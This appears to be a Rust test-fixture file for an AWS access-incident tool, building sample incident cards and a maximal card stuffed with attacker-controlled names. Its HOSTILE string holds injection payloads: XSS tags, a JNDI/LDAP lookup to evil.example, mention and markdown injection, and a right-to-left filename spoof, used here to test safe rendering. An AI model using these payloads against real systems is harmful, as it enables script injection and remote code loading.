//! Cards: a usual one, and the largest with names that want to hurt.

use jiff::Timestamp;
use locksmith_app::approve::{Approval, Approvals, Ended, Missing};
use locksmith_app::card::{Card, Question};
use locksmith_app::change::{Difference, Differences, Journal, Status, Why};
use locksmith_app::diagnose::Placement;
use locksmith_app::incident::{Incident, State};
use locksmith_app::remark::Remark;
use locksmith_core::arn::AccountId;
use locksmith_core::diagnosis::{Cause, CauseCode};
use locksmith_core::plan::Plan;
use locksmith_view::{plan, sample};
use serde_json::json;

pub(crate) const INCIDENT: &str = "5f0c61aa93b2d7e4-1";

/// What strangers can write: sessions, keys and tags have names of their choice.
pub(crate) const HOSTILE: &str = "@everyone @octo/admins #1 GH-2 <img src=x onerror=alert(1)> <!-- --> \
    [click](https://evil.example) https://evil.example www.evil.example ``` \n# Heading\n- [ ] x \
    {code} {{evil}} [~accountid:1] !http://evil.example/x.png! [code]<script>alert(1)</script>[/code] \
    | a | b | \u{202e}txt.exe\u{200b} \u{1f512}\u{1f511} ${jndi:ldap://evil.example} \\ $math$ a@evil.example";

fn at(text: &str) -> Timestamp {
    text.parse().unwrap()
}

fn account(id: &str) -> AccountId {
    AccountId::parse(id).unwrap()
}

pub(crate) fn incident(state: State) -> Incident {
    serde_json::from_value(json!({
        "id": INCIDENT, "version": 3, "state": state, "state_since": "2026-03-01T09:30:00Z",
        "remark": null, "announced": true, "opened_at": "2026-03-01T09:00:00Z", "openings": 1,
        "kept_until": "2026-12-01T00:00:00Z", "principal": "AROAEXAMPLE",
        "principal_arn": "arn:aws:iam::222222222222:role/data/ReportReader",
        "principal_account": "222222222222", "class": "read", "resource": "reports",
        "prefix": "2026/", "key": plan::sample::KEY, "resource_account": "111111111111",
        "count": 7, "first_seen": "2026-03-01T08:58:12Z", "last_seen": "2026-03-01T09:29:41Z",
        "recent": [], "sample_rank": 1, "causes": [],
    }))
    .unwrap()
}

/// A card of an incident in this state, with all that an incident in it may have.
pub(crate) fn card(state: State) -> Card {
    let plan = plan::sample::plan();
    let known = !matches!(state, State::Detected | State::Suppressed);
    let asked = state == State::AwaitingApproval;
    let made = matches!(
        state,
        State::Applying | State::Applied | State::Verified | State::Failed | State::RolledBack
    );
    Card {
        incident: incident(state),
        diagnosis: known.then(sample::diagnosis),
        placement: Placement::default(),
        approvals: approvals(state, &plan),
        journal: made.then(|| journal(state, &plan)),
        question: asked.then(|| Question {
            digest: plan.digest.clone(),
            asked_at: at("2026-03-01T09:30:00Z"),
            until: at("2026-03-03T09:30:00Z"),
            missing: vec![
                Missing { account: account("111111111111"), given: 0, quorum: Some(1) },
                Missing { account: account("222222222222"), given: 0, quorum: None },
            ],
        }),
        plan: known.then_some(plan),
        ticket: None,
        report_url: Some("https://locksmith.example/reports/5f0c?signature=ab%20c".to_owned()),
    }
}

/// The same incident that came back.
pub(crate) fn came_back(mut card: Card) -> Card {
    card.incident.state = State::Diagnosed;
    card.incident.openings += 1;
    card.incident.state_since = at("2026-03-09T10:00:00Z");
    card
}

/// The same incident in another state, a little later.
pub(crate) fn moved(card: &Card, state: State) -> Card {
    let incident = Incident {
        state,
        state_since: card.incident.state_since + jiff::SignedDuration::from_mins(5),
        ..card.incident.clone()
    };
    Card { incident, ..self::card(state) }
}

fn approvals(state: State, plan: &Plan) -> Approvals {
    let given = Approval {
        account: account("111111111111"),
        person: "alice".to_owned(),
        digest: plan.digest.clone(),
        at: at("2026-03-01T10:00:00Z"),
        from: "slack T1/C1/U1".to_owned(),
        asked_at: None,
        group: None,
        break_glass: (state == State::Applied).then(|| "the reports are due".to_owned()),
    };
    let ended = Ended {
        person: "bob".to_owned(),
        reason: "not for this role".to_owned(),
        until: (state == State::Suppressed).then(|| at("2026-04-01T00:00:00Z")),
        at: at("2026-03-01T10:05:00Z"),
        from: "slack T1/C1/U2".to_owned(),
    };
    let refused = matches!(state, State::Rejected | State::Suppressed);
    let asked = !matches!(state, State::Detected | State::Diagnosed | State::Manual);
    Approvals {
        given: Some(given).filter(|_| asked && !refused).into_iter().collect(),
        ended: refused.then_some(ended),
        undo: None,
    }
}

fn journal(state: State, plan: &Plan) -> Journal {
    let begun = at("2026-03-01T10:10:00Z");
    let changes = plan.changes.clone();
    let mut journal = Journal::new(INCIDENT, plan.digest.clone(), changes, begun);
    let statuses = [
        match state {
            State::Applying => Status::Writing,
            State::RolledBack => Status::Undone,
            _ => Status::Written,
        },
        match state {
            State::Failed => Status::Stuck { why: Why::Told("AccessDenied".to_owned()) },
            State::RolledBack => {
                let altered = Difference::Altered { sid: "Sid".to_owned() };
                Status::ChangedByOthers { what: Differences(vec![altered]) }
            }
            State::Applying => Status::Planned,
            _ => Status::Written,
        },
    ];
    for (step, status) in journal.steps.iter_mut().zip(statuses) {
        step.status = status;
    }
    journal
}

/// Hundreds of causes, documents of 20 KB, and names of strangers everywhere.
pub(crate) fn largest(state: State) -> Card {
    let mut card = card(state);
    let long = HOSTILE.repeat(3);
    card.incident.resource = format!("arn:aws:s3:::reports/{long}");
    card.incident.principal_arn =
        Some(format!("arn:aws:sts::222222222222:assumed-role/Etl/{HOSTILE}"));
    card.incident.prefix = Some(long.clone());
    card.incident.remark = Some(Remark::Told(long.clone()));
    let mut diagnosis = sample::hostile();
    let of = |code: CauseCode| Cause {
        code,
        account: Some(account("111111111111")),
        target: format!("arn:aws:s3:::reports/{long}"),
        action: "s3:GetObject".to_owned(),
        statement: None,
        fix: locksmith_core::diagnosis::Fix::Automatic,
        message: format!("The policy does not allow {long}"),
    };
    let codes: Vec<CauseCode> = CauseCode::all().collect();
    diagnosis.causes = codes.iter().cycle().take(400).map(|code| of(*code)).collect();
    diagnosis.call.principal.clone_from(&long);
    card.diagnosis = Some(diagnosis);
    let mut plan = plan::sample::plan();
    let mut change = plan::sample::bucket_policy("arn:aws:s3:::reports/x");
    let statements: Vec<_> = (0..16)
        .map(|number| json!({"Sid": format!("S{number}"), "Effect": "Allow", "Resource": long}))
        .collect();
    change.after = json!({"Version": "2012-10-17", "Statement": statements});
    change.added = statements;
    change.why.clone_from(&long);
    change.target.clone_from(&card.incident.resource);
    plan.changes = vec![change; 3];
    let manual = plan::sample::by_hand().manual;
    plan.manual = manual.iter().cycle().take(60).cloned().collect();
    for manual in &mut plan.manual {
        manual.what_to_do.clone_from(&long);
        manual.target.clone_from(&long);
        manual.statement = Some(json!({"Sid": long}));
    }
    let mut journal = Journal::new(
        INCIDENT,
        plan.digest.clone(),
        plan.changes.clone(),
        at("2026-03-01T10:10:00Z"),
    );
    for step in &mut journal.steps {
        step.status = Status::Stuck { why: Why::Told(long.clone()) };
    }
    card.journal = Some(journal);
    card.plan = Some(plan);
    if let Some(ended) = &mut card.approvals.ended {
        ended.reason.clone_from(&long);
    }
    let given = card.approvals.given.first().cloned();
    if let Some(mut given) = given {
        HOSTILE.clone_into(&mut given.person);
        given.break_glass = Some(long);
        card.approvals.given = vec![given; 50];
    }
    card
}
